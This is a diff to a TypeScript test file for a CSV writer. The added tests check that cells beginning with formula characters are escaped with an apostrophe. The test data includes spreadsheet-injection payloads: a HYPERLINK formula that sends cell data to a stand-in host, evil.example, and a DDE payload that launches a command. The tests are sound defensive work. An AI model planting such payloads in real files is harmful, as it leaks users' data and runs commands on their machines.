@@ -1,7 +1,14 @@
 import { describe, expect, it } from 'vitest';
 import fc from 'fast-check';
 import { syntheticIin } from '../identifiers/index';
-import { csvSeparators, detectCsvSeparator, readCsv, writeCsv, type CsvReadResult } from './csv';
+import {
+  csvSeparators,
+  detectCsvSeparator,
+  formulaSafe,
+  readCsv,
+  writeCsv,
+  type CsvReadResult,
+} from './csv';
 
 function records(result: CsvReadResult) {
   if (!result.ok) throw new Error(`unexpected CSV error ${JSON.stringify(result.error)}`);
@@ -105,6 +112,57 @@ describe('writeCsv', () => {
     expect(writeCsv([])).toBe('');
   });
 
+  it('writes text that a spreadsheet would run as a formula behind an apostrophe', () => {
+    const names = [
+      '=HYPERLINK("http://evil.example/?d="&A1;"Результат")',
+      "=cmd|' /C calc'!A0",
+      '+1+2',
+      '-2+3',
+      '@SUM(1+1)',
+      '\t=1+1',
+      '\r=1+1',
+      '＝1+1',
+    ];
+    const text = writeCsv([['ФИО'], ...names.map((name) => [name])], { lineEnding: '\n' });
+    expect(text.split('\n')).toEqual([
+      'ФИО',
+      '"\'=HYPERLINK(""http://evil.example/?d=""&A1;""Результат"")"',
+      "'=cmd|' /C calc'!A0",
+      "'+1+2",
+      "'-2+3",
+      "'@SUM(1+1)",
+      "'\t=1+1",
+      '"\'\r=1+1"',
+      "'＝1+1",
+      '',
+    ]);
+    // Read back as the spreadsheet shows it: the text, never a formula.
+    expect(records(readCsv(text)).map((r) => r.cells[0])).toEqual([
+      'ФИО',
+      ...names.map((name) => `'${name}`),
+    ]);
+    expect(['Ахметов', 'a-b', 'e@mail', '1+1', ''].map(formulaSafe)).toEqual([
+      'Ахметов',
+      'a-b',
+      'e@mail',
+      '1+1',
+      '',
+    ]);
+  });
+
+  it('writes numbers as numbers, a negative one too, and text in a number column as text', () => {
+    const text = writeCsv(
+      [
+        ['№', 'Балл', 'Примечание'],
+        [-1, '-1,50', '-1,50'],
+        [2, '-2.5', '-'],
+        [3, '=1+1', '@x'],
+      ],
+      { numberColumns: [0, 1] },
+    );
+    expect(text).toBe("№;Балл;Примечание\r\n-1;-1,50;'-1,50\r\n2;-2.5;'-\r\n3;'=1+1;'@x\r\n");
+  });
+
   it('round-trips any cells through read (property)', () => {
     const cellText = fc.string({
       unit: fc.constantFrom('a', 'Ә', 'ж', ' ', ';', ',', '\t', '"', '\n', '\r', '1'),
@@ -122,7 +180,11 @@ describe('writeCsv', () => {
         fc.constantFrom('\r\n' as const, '\n' as const),
         (rows, separator, bom, lineEnding) => {
           const result = readCsv(writeCsv(rows, { separator, bom, lineEnding }), separator);
-          expect(records(result).map((r) => r.cells)).toEqual(rows);
+          // A cell that would start a formula comes back behind an apostrophe; others as written.
+          const expected = rows.map((row) =>
+            row.map((cell) => (/^[\t\r]/.test(cell) ? `'${cell}` : cell)),
+          );
+          expect(records(result).map((r) => r.cells)).toEqual(expected);
         },
       ),
       { numRuns: 500 },
